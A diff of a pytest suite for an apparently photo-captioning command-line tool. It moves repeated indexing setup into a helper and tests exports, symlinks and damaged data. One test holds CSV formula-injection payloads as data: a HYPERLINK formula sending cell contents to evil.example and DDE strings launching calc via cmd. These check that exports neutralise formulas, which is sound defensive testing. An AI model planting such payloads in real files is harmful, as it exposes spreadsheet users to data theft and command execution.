@@ -29,6 +29,15 @@ def _run(*args: str, tmp_path: Path) -> subprocess.CompletedProcess:
                           timeout=TIMEOUT, errors="replace")
 
 
+def _index(photos: list[Path], tmp_path: Path) -> Path:
+    """The index `seesay index` makes of these photos, copied into tmp_path/photos; its path."""
+    (tmp_path / "photos").mkdir()
+    for photo in photos:
+        shutil.copy(photo, tmp_path / "photos")
+    assert _run("index", str(tmp_path / "photos"), "--quiet", "--no-text", tmp_path=tmp_path).returncode == 0
+    return tmp_path / "index.sqlite"
+
+
 @pytest.fixture(scope="module")
 def photos(flickr_records) -> list[Path]:
     return [r.path for r in flickr_records if r.split == "test"][:4]
@@ -178,9 +187,7 @@ def test_a_db_that_is_a_symbolic_link_loop_is_one_line(tmp_path, photos):
 
 
 def test_export_to_a_fifo_nothing_reads_is_one_line_at_once(tmp_path, photos):
-    (tmp_path / "photos").mkdir()
-    shutil.copy(photos[0], tmp_path / "photos")
-    assert _run("index", str(tmp_path / "photos"), "--quiet", "--no-text", tmp_path=tmp_path).returncode == 0
+    _index(photos[:1], tmp_path)
     os.mkfifo(tmp_path / "out.json")
     run = _run("export", "-o", str(tmp_path / "out.json"), tmp_path=tmp_path)  # waited for a reader for ever
     assert run.returncode == 2 and run.stderr.splitlines() == [
@@ -188,9 +195,7 @@ def test_export_to_a_fifo_nothing_reads_is_one_line_at_once(tmp_path, photos):
 
 
 def test_export_will_not_write_over_the_index_it_exports(tmp_path, photos):
-    (tmp_path / "photos").mkdir()
-    shutil.copy(photos[0], tmp_path / "photos")
-    assert _run("index", str(tmp_path / "photos"), "--quiet", "--no-text", tmp_path=tmp_path).returncode == 0
+    _index(photos[:1], tmp_path)
     db = tmp_path / "index.sqlite"
     before = db.read_bytes()
     run = _run("export", "-o", str(db), tmp_path=tmp_path)  # wrote the JSON over the index: every row lost
@@ -201,9 +206,7 @@ def test_export_will_not_write_over_the_index_it_exports(tmp_path, photos):
 
 
 def test_say_to_will_not_write_over_the_index_as_export_will_not(tmp_path, photos):
-    (tmp_path / "photos").mkdir()
-    shutil.copy(photos[0], tmp_path / "photos")
-    assert _run("index", str(tmp_path / "photos"), "--quiet", "--no-text", tmp_path=tmp_path).returncode == 0
+    _index(photos[:1], tmp_path)
     db = tmp_path / "index.sqlite"
     before = db.read_bytes()
     (tmp_path / "link.wav").symlink_to(db)
@@ -220,9 +223,7 @@ def test_say_to_will_not_write_over_the_index_as_export_will_not(tmp_path, photo
 
 
 def test_export_csv_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text(tmp_path, photos):
-    (tmp_path / "photos").mkdir()
-    shutil.copy(photos[0], tmp_path / "photos")
-    assert _run("index", str(tmp_path / "photos"), "--quiet", "--no-text", tmp_path=tmp_path).returncode == 0
+    _index(photos[:1], tmp_path)
     cases = [{"caption": '=HYPERLINK("http://evil.example/?"&A1,"see")', "sentence": "+1+cmd|' /C calc'!A0",
               "text": "@SUM(1+1)*cmd|' /C calc'!A0", "objects": "-2+3"},
              {"caption": "\t=1+1", "sentence": "\r=1+1", "text": "a dog = 1 - 2", "objects": "dog"}]
@@ -280,10 +281,7 @@ def test_names_too_long_for_a_file_name_are_one_line_each(tmp_path, photos):
 
 @pytest.mark.timeout(2 * TIMEOUT)
 def test_damaged_sentence_embeddings_are_one_line_and_word_search_still_works(tmp_path, photos):
-    (tmp_path / "photos").mkdir()
-    for p in photos[:3]:
-        shutil.copy(p, tmp_path / "photos")
-    assert _run("index", str(tmp_path / "photos"), "--quiet", "--no-text", tmp_path=tmp_path).returncode == 0
+    _index(photos[:3], tmp_path)
     db = tmp_path / "index.sqlite"
     for damage, why in [("UPDATE captions SET embedding = x'0000' WHERE id = 2", "of different sizes"),
                         ("UPDATE captions SET embedding = zeroblob(100)", "25 numbers each")]:
